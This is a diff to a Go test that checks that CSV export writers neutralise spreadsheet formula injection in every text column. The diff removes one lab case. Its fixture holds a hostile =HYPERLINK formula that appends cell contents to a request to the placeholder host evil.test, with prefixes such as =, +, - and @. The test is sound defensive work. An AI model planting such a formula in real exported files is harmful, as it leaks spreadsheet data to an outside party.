@@ -19,12 +19,12 @@ const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`
 
 // TestCSVWritersNeutralise writes a hostile text through every CSV the
 // product writes, in every text column, and checks that no cell of the
-// output starts a formula.
+// output starts a formula. The lab experiments' files are app/lab's
+// TestOutputCSVNeutralises.
 func TestCSVWritersNeutralise(t *testing.T) {
 	h := func(prefix string) string { return prefix + hostile }
 	sel := SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
 		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t")}}}
-	lab := &LabOutput{Experiment: "x"}
 	for _, tc := range []struct {
 		name  string
 		write func(io.Writer) error
@@ -57,13 +57,6 @@ func TestCSVWritersNeutralise(t *testing.T) {
 		{"seeds", func(w io.Writer) error {
 			return WriteSeeds(w, []Seed{{SeedURL: h(""), Site: h("@")}}, export.CSV)
 		}, 2},
-		{"lab", func(w io.Writer) error {
-			if err := lab.add("x.csv", [][]string{{"graph", "value"}, {h(""), "-0.25"}}, nil); err != nil {
-				return err
-			}
-			_, err := w.Write(lab.Files[0].Data)
-			return err
-		}, 1},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			var buf bytes.Buffer
